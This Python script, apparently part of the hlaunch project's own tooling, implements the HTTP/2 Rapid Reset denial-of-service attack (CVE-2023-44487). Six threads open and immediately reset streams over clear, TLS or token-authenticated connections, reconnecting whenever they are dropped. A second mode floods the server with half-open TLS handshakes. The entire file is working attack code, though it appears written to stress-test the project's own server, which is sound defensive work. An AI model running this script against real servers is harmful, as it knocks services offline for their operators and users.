#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# SPDX-FileCopyrightText: The hlaunch authors
"""An attacker of HTTP/2 servers: opens and resets streams as fast as it can (CVE-2023-44487).

    rapid_reset.py HOST PORT SECONDS clear|NAME|half:NAME|token|greets|greets:NAME

It connects in clear; or over TLS without a certificate, with NAME as the server name; or as a
holder of the token in HLAUNCH_TOKEN. With `greets` it connects in clear after the greeting of --tls
off, as a holder of the token, or as a stranger who has only read NAME on the wire. Reconnects when
a connection is closed. With `half:NAME` it sends a ClientHello that it has read, says no more, and
keeps the connection. Prints the numbers of connections made, and of streams opened and reset.
"""

import contextlib
import hashlib
import hmac
import os
import pathlib
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time

CONNECTIONS = 6
ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551  # The order of P-256.
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# :method POST, :scheme http, :path and :authority as literals without indexing (RFC 7541).
REQUEST = b"\x83\x86\x04\x10/hlaunch.v1.Rend\x01\x01a"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def streams(first, count):
    return b"".join(frame(1, 5, stream, REQUEST) + frame(3, 0, stream, struct.pack(">I", 8))
                    for stream in range(first, first + 2 * count, 2))


def derive(token, label, size):
    """HKDF with SHA-256 (RFC 5869), as rendezvous/net/trust uses it."""
    key = hmac.digest(b"hlaunch token v1", token.encode(), hashlib.sha256)
    derived = block = b""
    while len(derived) < size:
        block = hmac.digest(key, block + label + bytes([len(derived) // 32 + 1]), hashlib.sha256)
        derived += block
    return derived[:size]


def openssl(*words, text=b""):
    subprocess.run(["openssl", *words], input=text, check=True, stderr=subprocess.PIPE)


def show_certificate(context, token, name):
    """Gives `context` the certificate that a holder of the token makes for itself."""
    number = int.from_bytes(derive(token, b"authority p-256", 48), "big") % (ORDER - 1) + 1
    # ECPrivateKey of RFC 5915 without a public key, which OpenSSL computes.
    signer = bytes.fromhex("30310201010420") + number.to_bytes(32, "big") + bytes.fromhex(
        "a00a06082a8648ce3d030107")
    with tempfile.TemporaryDirectory() as folder:
        at = pathlib.Path(folder)
        (at / "extensions").write_text(
            "basicConstraints=critical,CA:FALSE\nkeyUsage=critical,digitalSignature\n"
            f"extendedKeyUsage=clientAuth\nsubjectAltName=DNS:{name}\n", encoding="ascii")
        openssl("ec", "-inform", "DER", "-out", at / "signer", text=signer)
        openssl("req", "-x509", "-new", "-key", at / "signer", "-subj", "/CN=hlaunch job",
                "-out", at / "authority")
        openssl("req", "-new", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
                "-keyout", at / "key", "-subj", "/CN=hlaunch", "-out", at / "request")
        openssl("x509", "-req", "-in", at / "request", "-CA", at / "authority", "-CAkey",
                at / "signer", "-set_serial", "1", "-extfile", at / "extensions", "-out", at / "leaf")
        context.load_cert_chain(at / "leaf", at / "key")


def server_name(token):
    return derive(token, b"server name", 16).hex() + ".hlaunch"


def greet(connection, name, key, head=b"hlaunch\x01"):
    """Greets as rendezvous/net/trust/token_greeting.h describes."""
    hello = head + name.encode() + os.urandom(16) + b"\0\0"
    connection.sendall(hello)
    answer = connection.recv(8 + 16 + 32, socket.MSG_WAITALL)
    connection.sendall(b"hlaunch\x03" + hmac.digest(key, b"client" + hello + answer, hashlib.sha256))


def secured_by(name):
    """A function that secures a connection in the way of `name`."""
    if name == "clear":
        return lambda connection: connection
    if name == "token":
        asked, context = tls(name)
        key = derive(os.environ["HLAUNCH_TOKEN"], b"greeting in clear", 32)

        def greeted_tls(connection):
            greet(connection, asked, key, b"hlaunch\x05")
            return context.wrap_socket(connection, server_hostname=asked)
        return greeted_tls
    if not name.startswith("greets"):
        asked, context = tls(name)
        return lambda connection: context.wrap_socket(connection, server_hostname=asked)
    asked, key = name.partition(":")[2], os.urandom(32)
    if not asked:
        token = os.environ["HLAUNCH_TOKEN"]
        asked, key = server_name(token), derive(token, b"greeting in clear", 32)

    def greeted(connection):
        greet(connection, asked, key)
        return connection
    return greeted


def tls(name):
    """The server name to ask for, and the TLS context."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    if name == "token":
        token = os.environ["HLAUNCH_TOKEN"]
        name = server_name(token)
        show_certificate(context, token, name)
    return name, context


def connect(host, port, secured, seconds=5):
    return secured(socket.create_connection((host, port), timeout=seconds))


def attack(host, port, secured, until, counts):
    while time.monotonic() < until:
        try:
            with connect(host, port, secured) as connection:
                counts["connections"] += 1
                connection.sendall(PREFACE + frame(4, 0, 0))
                for first in range(1, 1 << 30, 200):
                    if time.monotonic() > until:
                        return
                    connection.sendall(streams(first, 100))
                    counts["streams"] += 100
        except OSError:
            counts["refused"] += 1


def client_hello(name):
    _, context = tls(name)
    said = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), said, server_hostname=name).do_handshake()
    return said.read()


def keep_half_open(host, port, name, until):
    hello, kept = client_hello(name), []
    while time.monotonic() < until:
        with contextlib.suppress(OSError):
            kept.append(socket.create_connection((host, port), timeout=5))
            kept[-1].sendall(hello)
        del kept[:-2000]
        time.sleep(0.002)
    print({"half-open": len(kept)})


def main():
    host, port, seconds, name = sys.argv[1:]
    if name.startswith("half:"):
        return keep_half_open(host, int(port), name[5:], time.monotonic() + float(seconds))
    secured = secured_by(name)
    if name in ("token", "greets"):  # Whoever is let in has all the seconds for its attack.
        connect(host, int(port), secured, 60).close()
    until = time.monotonic() + float(seconds)
    counts = {"connections": 0, "streams": 0, "refused": 0}
    threads = [threading.Thread(target=attack, args=(host, int(port), secured, until, counts))
               for _ in range(CONNECTIONS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(counts)


if __name__ == "__main__":
    main()
